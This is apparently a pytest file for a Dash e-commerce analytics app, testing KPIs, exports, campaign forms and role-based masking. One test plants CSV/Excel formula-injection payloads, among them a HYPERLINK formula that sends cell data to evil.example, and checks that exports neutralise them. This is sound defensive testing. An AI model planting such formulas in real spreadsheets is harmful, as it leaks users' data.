"""The Dash pages' callbacks as functions: figures reconcile with the orders they come from."""

from __future__ import annotations

from datetime import UTC, date, datetime

import dash
import pytest
import sqlalchemy as sa
from flask_login import login_user

from app.analytics.customers import refresh_customer_metrics
from app.analytics.periods import DateRange
from app.dash_apps.pages import (
    campaign_detail,
    campaigns,
    cohorts,
    customers,
    dashboard,
    funnel,
    orders,
    render_page,
    revenue_streams,
)
from app.extensions import db
from app.formatting import format_money
from app.models import AuditLog, Campaign
from tests.factories import (
    CampaignFactory,
    CustomerFactory,
    OrderFactory,
    RefundFactory,
    UserFactory,
)
from tests.refresh import backfill, refresh

MARCH = "?start=2026-03-01&end=2026-03-31"


def find(component, element_id: str):
    """Depth-first search of a Dash component tree (or a list of them) by id."""
    if isinstance(component, (list, tuple)):
        return next(
            (hit for part in component if (hit := find(part, element_id)) is not None), None
        )
    if getattr(component, "id", None) == element_id:
        return component
    children = getattr(component, "children", None)
    for child in children if isinstance(children, (list, tuple)) else [children]:
        if child is not None and not isinstance(child, (str, int, float)):
            found = find(child, element_id)
            if found is not None:
                return found
    return None


def text_of(component) -> str:
    if isinstance(component, (str, int, float)):
        return str(component)
    if isinstance(component, (list, tuple)):
        return "".join(text_of(part) for part in component)
    children = getattr(component, "children", None)
    if children is None:
        return ""
    parts = children if isinstance(children, (list, tuple)) else [children]
    return "".join(text_of(part) for part in parts)


def march_shop():
    regular = CustomerFactory()
    OrderFactory(
        customer=regular,
        subtotal=10_000,
        discount=1_000,
        placed_at=datetime(2026, 3, 3, 12, tzinfo=UTC),
    )
    big = OrderFactory(
        customer=regular,
        subtotal=5_000,
        channel="pos",
        placed_at=datetime(2026, 3, 9, 12, tzinfo=UTC),
    )
    OrderFactory(subtotal=7_777, status="cancelled", placed_at=datetime(2026, 3, 9, 13, tzinfo=UTC))
    OrderFactory(subtotal=3_000, status="pending", completed_at=None)
    RefundFactory(order=big, amount=2_500, refunded_at=datetime(2026, 3, 20, 12, tzinfo=UTC))
    refresh()
    return regular


def as_user(app, role: str):
    user = UserFactory(role=role)
    context = app.test_request_context("/analytics/")
    context.push()
    login_user(user)
    return context


def test_dashboard_kpis_reconcile_with_the_orders(app):
    march_shop()
    empty, kpis, trend, *_ = dashboard.update_dashboard(MARCH)
    assert empty is None
    cards = {
        card_id: text_of(find(kpis, card_id))
        for card_id in (
            "dashboard-net-revenue",
            "dashboard-orders",
            "dashboard-aov",
            "dashboard-refunds",
        )
    }
    # (10,000 − 1,000) + 5,000 − 2,500 refunded = 11,500 cents; AOV = 14,000 / 2
    assert cards == {
        "dashboard-net-revenue": "$115.00",
        "dashboard-orders": "2",
        "dashboard-aov": "$70.00",
        "dashboard-refunds": "$25.00",
    }
    assert sum(trend.data[0]["y"]) == 115.0
    # No visit was tracked: the conversion rate is unknown, not zero.
    assert text_of(find(kpis, "dashboard-conversion")) == "— (no visits tracked)"
    assert len(trend.data[0]["x"]) == 31


def test_empty_period_gets_an_explanation_not_an_error(app):
    empty, kpis, *_ = dashboard.update_dashboard("?start=2020-01-01&end=2020-01-31")
    assert "Nothing to show yet" in text_of(empty)
    assert text_of(find(kpis, "dashboard-net-revenue")) == "$0.00"


def test_revenue_page_channels_add_up_to_the_dashboard_figure(app):
    march_shop()
    _empty, table, _trend = revenue_streams.update_revenue(MARCH)
    assert text_of(find(table, "revenue-streams-total")) == "$115.00"
    rows = revenue_streams.channel_rows(MARCH, formatted=False)
    assert {row[0]: row[1] for row in rows if row[1] != "0.00"} == {
        "Web store": "90.00",
        "Point of sale": "25.00",
    }
    assert len(rows) == 7


def test_segments_grid_pages_and_sorts_on_the_server_and_masks_emails_for_viewers(app):
    for index in range(5):
        customer = CustomerFactory(email=f"buyer{index}@example.com")
        OrderFactory(customer=customer, subtotal=1_000 * (index + 1))
    refresh_customer_metrics(db.session, as_of=date(2026, 3, 31))
    db.session.commit()
    context = as_user(app, "viewer")
    try:
        page = customers.serve_rows(
            {
                "startRow": 0,
                "endRow": 2,
                "sortModel": [{"colId": "lifetime_value", "sort": "desc"}],
            },
            "top",
        )
        assert page["rowCount"] == 5
        assert [row["lifetime_value"] for row in page["rowData"]] == ["$50.00", "$40.00"]
        assert page["rowData"][0]["email"] == "b*****@example.com"
        ascending = customers.serve_rows(
            {"startRow": 0, "endRow": 1, "sortModel": [{"colId": "lifetime_value", "sort": "asc"}]},
            "top",
        )
        assert ascending["rowData"][0]["lifetime_value"] == "$10.00"
    finally:
        context.pop()
    context = as_user(app, "manager")
    try:
        page = customers.serve_rows({"startRow": 0, "endRow": 1}, "top")
        assert page["rowData"][0]["email"] == "buyer4@example.com"
    finally:
        context.pop()


FORM = {
    "name": "Spring",
    "code": "spring26",
    "status": "active",
    "discount_percent": 15,
    "target_audience": "all",
    "budget": "250.50",
    "spend": "100",
    "starts_on": "2026-03-01",
    "ends_on": "2026-03-31",
}


def submit(values: dict, campaign_id=None):
    return campaigns.save_form(1, campaign_id, *(values[name] for name in campaigns.FIELDS))


def outcome(result: tuple) -> dict:
    """The save callback's outputs by meaning."""
    count = len(campaigns.FIELDS)
    return {
        "message": result[0],
        "errors": {
            name: error
            for name, flag, error in zip(
                campaigns.FIELDS,
                result[1 : 1 + count],
                result[1 + count : 1 + 2 * count],
                strict=True,
            )
            if flag
        },
        "saved": result[1 + 2 * count],
        "edit": result[2 + 2 * count],
        "form": dict(zip(campaigns.FIELDS, result[3 + 2 * count :], strict=True)),
    }


def test_viewers_cannot_save_campaigns_even_by_calling_the_callback(app):
    context = as_user(app, "viewer")
    try:
        message, *_ = submit(FORM)
        assert "Only managers" in text_of(message)
    finally:
        context.pop()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Campaign)) == 0


def test_managers_create_campaigns_with_money_in_cents_and_an_audit_entry(app):
    context = as_user(app, "manager")
    try:
        result = outcome(submit(FORM))
        assert "Saved" in text_of(result["message"])
    finally:
        context.pop()
    saved_id = result["saved"]
    # The form is blank again for the next campaign, "New campaign" chosen.
    assert result["edit"] == "new" and result["form"]["name"] == "" and result["form"]["code"] == ""
    campaign = db.session.get(Campaign, saved_id)
    assert (campaign.code, campaign.budget, campaign.spend) == ("SPRING26", 25_050, 10_000)
    audit = db.session.scalar(sa.select(AuditLog))
    assert (audit.action, audit.target) == ("campaign.create", f"campaign:{saved_id}")


def test_campaign_form_explains_each_bad_field(app):
    CampaignFactory(code="TAKEN")
    context = as_user(app, "manager")
    try:
        bad = {**FORM, "name": " ", "code": "taken", "budget": "-5", "ends_on": "2026-02-01"}
        message, *rest = submit(bad)
    finally:
        context.pop()
    count = len(campaigns.FIELDS)
    invalid, errors = rest[:count], rest[count : 2 * count]
    flagged = {
        name: error
        for name, flag, error in zip(campaigns.FIELDS, invalid, errors, strict=True)
        if flag
    }
    assert flagged == {
        "name": "Name is required.",
        "code": "Another campaign already uses the code TAKEN.",
        "budget": "Budget cannot be negative.",
        "ends_on": "End date must be on or after the start date.",
    }
    assert "correct the highlighted fields" in text_of(message)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Campaign)) == 1


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("discount_percent", "150", "Discount must be a whole percentage from 0 to 100."),
        ("discount_percent", "12.5", "Discount must be a whole percentage from 0 to 100."),
        ("discount_percent", None, None),  # blank: no discount
        ("budget", "-5", "Budget cannot be negative."),
        ("budget", "1,000", "Budget must be an amount like 1250.00."),
        ("spend", "10.005", "Spend can have at most 2 decimal places."),
        ("code", "ß" * 40, "Code can have at most 40 characters."),
    ],
)
def test_no_value_is_changed_without_a_word(app, field, value, message):
    context = as_user(app, "manager")
    try:
        result = outcome(submit({**FORM, field: value}))
    finally:
        context.pop()
    if message is None:
        assert db.session.get(Campaign, result["saved"]).discount_percent == 0
    else:
        assert result["errors"] == {field: message} and result["saved"] is None
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Campaign)) == 0


def test_an_edited_campaign_stays_loaded_and_new_can_be_chosen_again(app):
    spring = CampaignFactory(code="SPRING", budget=10_000)
    context = as_user(app, "manager")
    try:
        result = outcome(submit({**FORM, "code": "SPRING", "budget": "99.99"}, str(spring.id)))
        assert result["edit"] == str(spring.id) and result["form"]["budget"] == "99.99"
        assert campaigns.edit_options(None)[0] == {"label": "New campaign", "value": "new"}
        assert campaigns.fill_form("new") == campaigns.BLANK_FORM
    finally:
        context.pop()
    assert db.session.get(Campaign, spring.id).budget == 9_999


def test_campaign_list_filters_by_status_and_detail_shows_roi(app):
    spring = CampaignFactory(status="active", spend=10_000)
    CampaignFactory(status="draft")
    OrderFactory(subtotal=30_000, discount=3_000, campaign_id=spring.id)
    backfill(DateRange(date(2026, 3, 1), date(2026, 3, 31)), date(2026, 4, 1))
    db.session.commit()
    active = campaigns.update_list("active", None)
    assert spring.code in text_of(active) and "draft" not in text_of(active).lower()
    detail = render_page(f"/analytics/campaigns/{spring.id}/")
    assert text_of(find(detail, "campaign-detail-net-revenue")) == "$270.00"
    # (27,000 − 10,000) / 10,000: the discount is already out of the net revenue
    assert text_of(find(detail, "campaign-detail-roi")) == "170%"
    assert find(render_page("/analytics/campaigns/999999/"), "campaign-detail-not-found")
    # The detail page shows the whole run by default, and a range when the URL names one.
    february = render_page(f"/analytics/campaigns/{spring.id}/", "?start=2026-02-01&end=2026-02-28")
    assert text_of(find(february, "campaign-detail-net-revenue")) == "$0.00"
    assert "Within 01 Feb 2026 – 28 Feb 2026" in text_of(find(february, "campaign-detail-scope"))
    assert "whole run" in text_of(find(detail, "campaign-detail-scope"))
    # The list follows the page's range: March holds the order, February none of it.
    march = text_of(campaigns.update_list("active", None, "?start=2026-03-01&end=2026-03-31"))
    assert "within 01 Mar 2026 – 31 Mar 2026" in march and "$270.00" in march
    february = text_of(campaigns.update_list("active", None, "?start=2026-02-01&end=2026-02-28"))
    assert "$270.00" not in february and "$0.00" in february


def test_exports_write_the_table_and_an_audit_entry(app):
    march_shop()
    context = as_user(app, "viewer")
    try:
        payload = revenue_streams.export_channels(1, None, MARCH)
    finally:
        context.pop()
    lines = payload["content"].strip().splitlines()
    assert lines[0] == "channel,net_revenue_USD,share,orders"
    assert "Web store,90.00,0.7826,1" in lines and len(lines) == 8
    audit = db.session.scalar(sa.select(AuditLog))
    assert (audit.action, audit.target, audit.details["rows"]) == (
        "export",
        "revenue-by-channel",
        7,
    )


def test_funnel_and_cohort_pages_explain_an_empty_shop(app):
    empty, _chart, _table, median, _channels = funnel.update_funnel(MARCH, "all")
    assert "No tracked sessions" in text_of(empty) and "no converted sessions" in median
    empty, heatmap = cohorts.update_cohorts()
    assert "every night" in text_of(empty) and heatmap is None


def test_unknown_path_gets_a_not_found_page(app):
    assert find(render_page("/analytics/nowhere/"), "not-found-page")


def test_every_other_table_downloads_too(app):
    campaign = CampaignFactory()
    OrderFactory(subtotal=4_000, campaign_id=campaign.id, external_id="O-CAMPAIGN")
    backfill(DateRange(date(2026, 3, 1), date(2026, 3, 31)), date(2026, 4, 1))
    db.session.commit()
    context = as_user(app, "viewer")
    try:
        orders = campaign_detail.export_orders(1, None, f"/analytics/campaigns/{campaign.id}/")
        matrix = cohorts.export_cohorts(1, None, MARCH)
        steps = funnel.export_steps(1, None, MARCH, "all")
    finally:
        context.pop()
    assert (
        orders["content"]
        .splitlines()[1]
        .startswith("O-CAMPAIGN,2026-03-10 12:00,completed,Web store,40.00,0.00,40.00")
    )
    assert matrix["content"].splitlines()[1] == "2026-03,1,0,1,1.0,False"
    assert (
        steps["content"].splitlines()[0]
        == "step,sessions,step_conversion,overall_conversion,drop_off"
    )
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog)) == 3


def test_exports_carry_no_formula_a_spreadsheet_would_run(app, tmp_path):
    import base64
    import csv as csv_module
    import io

    import openpyxl

    from app.dash_apps.exports import csv_text, xlsx_bytes

    attack = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    CampaignFactory(name=attack, code="=CMD")
    buyer = CustomerFactory(external_id="@SUM(1+1)", email="victim@example.com")
    OrderFactory(customer=buyer, subtotal=1_000)
    refresh()
    context = as_user(app, "manager")
    try:
        campaigns_csv = campaigns.export_campaigns(1, None, "all")["content"]
        customers_xlsx = customers.export_list("top", "xlsx")["content"]
    finally:
        context.pop()
    row = next(csv_module.reader(io.StringIO(campaigns_csv.splitlines()[1])))
    assert row[1] == "'" + attack and row[2] == "'=CMD"
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(customers_xlsx))).active
    ids = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "@SUM(1+1)" in ids
    cell = next(c for c in sheet["A"] if c.value == "@SUM(1+1)")
    assert cell.data_type == "s"  # text, not a formula
    # Both writers on every kind of text, and negative numbers kept as numbers in CSV:
    path = tmp_path / "t.xlsx"
    path.write_bytes(xlsx_bytes(["a", "b"], [["=1+2", "-12.50"], ["+SUM(A1)", "http://x"]]))
    cells = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells) and cells[2].value == "=1+2"
    assert csv_text(["a"], [["-12.50"], ["-cmd"], ["+1"]]).splitlines() == [
        "a",
        "-12.50",
        "'-cmd",
        "'+1",
    ]


def test_excel_exports_hold_numbers_with_formats_and_say_what_they_cover(app):
    import base64
    import io

    import openpyxl

    from app.dash_apps.exports import download

    OrderFactory(subtotal=9_000, channel="web")
    OrderFactory(subtotal=2_550, channel="mobile_app")
    refresh()
    context = as_user(app, "viewer")
    try:
        rows = revenue_streams.channel_rows(MARCH, formatted=False)
        columns = ["channel", "net_revenue_USD", "share", "orders"]
        days = DateRange(date(2026, 3, 1), date(2026, 3, 31))
        payload = download("revenue-by-channel", "xlsx", columns, rows, covers=days, currency="USD")
    finally:
        context.pop()
    assert payload["filename"] == "revenue-by-channel_2026-03-01_to_2026-03-31_USD.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(payload["content"]))).active
    assert sheet["A1"].value == "Revenue by channel: 2026-03-01 to 2026-03-31, amounts in USD"
    assert [cell.value for cell in sheet[2]] == columns
    by_label = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    web, app_row = by_label["Web store"], by_label["Mobile app"]
    assert (web[1].value, web[1].data_type, web[1].number_format) == (90.0, "n", "#,##0.00")
    assert app_row[1].value == 25.5 and app_row[2].number_format == "0.0%"
    assert round(web[2].value + app_row[2].value, 4) == 1.0
    # A SUM over the money column adds up, as a manager would check it.
    assert sum(row[1].value for row in sheet.iter_rows(min_row=3)) == 115.5


def test_cohorts_show_the_first_order_months_of_the_range(app):
    OrderFactory(placed_at=datetime(2026, 1, 12, 12, tzinfo=UTC))
    OrderFactory(placed_at=datetime(2026, 3, 12, 12, tzinfo=UTC))
    backfill(DateRange(date(2026, 1, 1), date(2026, 3, 31)), date(2026, 4, 1))
    db.session.commit()
    context = as_user(app, "viewer")
    try:
        _empty, march = cohorts.update_cohorts(MARCH)
        _empty, quarter = cohorts.update_cohorts("?start=2026-01-01&end=2026-03-31")
    finally:
        context.pop()
    assert list(march.children.figure["data"][0]["y"]) == ["Mar 2026 (1)"]
    assert list(quarter.children.figure["data"][0]["y"]) == ["Jan 2026 (1)", "Mar 2026 (1)"]


def test_customers_page_counts_who_bought_in_the_range(app):
    regular = CustomerFactory()
    OrderFactory(customer=regular, placed_at=datetime(2026, 2, 10, 12, tzinfo=UTC))
    OrderFactory(customer=regular, placed_at=datetime(2026, 3, 10, 12, tzinfo=UTC))
    OrderFactory(placed_at=datetime(2026, 3, 11, 12, tzinfo=UTC))
    backfill(DateRange(date(2026, 2, 1), date(2026, 3, 31)), date(2026, 4, 1))
    db.session.commit()
    context = as_user(app, "viewer")
    try:
        march = customers.update_customers(None, MARCH)[1]
        february = customers.update_customers(None, "?start=2026-02-01&end=2026-02-28")[1]
    finally:
        context.pop()
    assert text_of(find(march, "customers-bought-in-range")) == "2"
    assert text_of(find(march, "customers-new-in-range")) == "1"
    assert text_of(find(february, "customers-bought-in-range")) == "1"
    assert "as of today" in text_of(march)


def test_the_orders_behind_a_figure_add_up_to_it(app):
    """Drill-down: the range's counted orders, less the refunds made in it, are its net
    revenue — overall and per channel — and the list pages, sorts and links to customers."""
    from app.analytics.dashboard import kpis, revenue_by_channel

    regular = march_shop()
    days = DateRange(date(2026, 3, 1), date(2026, 3, 31))
    context = as_user(app, "viewer")
    try:
        summary, listing, pager = orders.update_orders(MARCH)
        pos_summary, pos_listing, _ = orders.update_orders(MARCH + "&channel=pos")
        csv_rows = orders.export_orders(1, None, MARCH)["content"].splitlines()
    finally:
        context.pop()
    figures = kpis(db.session, days)
    assert text_of(find(summary, "orders-net-revenue")) == format_money(figures.net_revenue, "USD")
    assert text_of(find(summary, "orders-count")) == str(figures.orders) == "2"
    pos = next(c for c in revenue_by_channel(db.session, days) if c.channel == "pos")
    assert text_of(find(pos_summary, "orders-net-revenue")) == format_money(pos.net_revenue, "USD")
    assert "Point of sale" in text_of(pos_listing) and "Web store" not in text_of(pos_listing)
    link = find(listing, "orders-list")
    assert f"/analytics/customers/{regular.id}/" in repr(link)
    assert "A. L." in text_of(listing) and "Ada Lovelace" not in text_of(listing)  # viewer
    assert "Page 1 of 1" in text_of(pager)
    context = as_user(app, "viewer")
    try:
        _, by_size, _ = orders.update_orders(MARCH + "&sort=largest")
        _, oldest, _ = orders.update_orders(MARCH + "&sort=oldest")
    finally:
        context.pop()
    sizes = [text_of(row.children[5]) for row in find(by_size, "orders-list").children[1].children]
    assert sizes == ["$90.00", "$50.00"]
    dates = [text_of(row.children[1]) for row in find(oldest, "orders-list").children[1].children]
    assert dates == sorted(dates)
    assert len(csv_rows) == 1 + 2 and csv_rows[0].startswith("order_id,placed_shop_time")


def test_a_customer_profile_shows_their_orders_value_and_prediction_basis(app):
    regular = march_shop()
    context = as_user(app, "manager")
    try:
        page = render_page(f"/analytics/customers/{regular.id}/")
        missing = render_page("/analytics/customers/999999/")
    finally:
        context.pop()
    assert text_of(find(page, "customer-ltv")) == "$115.00"  # 90 + 50 − 25 refunded
    assert text_of(find(page, "customer-orders")) == "2"
    assert text_of(find(page, "customer-refunds")) == "$25.00"
    assert "Ada Lovelace" in text_of(find(page, "customer-title"))  # a manager sees the name
    assert "average gap" in text_of(find(page, "customer-next-basis"))
    assert text_of(find(page, "customer-next-order")) == "2026-03-15"  # 9 Mar + their 6-day gap
    assert find(missing, "customer-not-found") is not None


def test_a_click_on_a_trend_day_opens_that_days_orders(app):
    click = {"points": [{"x": "2026-03-09", "y": 50.0}]}
    assert dashboard.open_day(click, "?days=30&compare=year") == (
        "/analytics/orders/?start=2026-03-09&end=2026-03-09&compare=year"
    )
    assert dashboard.open_day({"points": []}, "") is dash.no_update
    # A crafted click far outside the calendar changes nothing (it was an overflow, a 500).
    assert dashboard.open_day({"points": [{"x": "9999-12-31"}]}, "?group=month") is dash.no_update
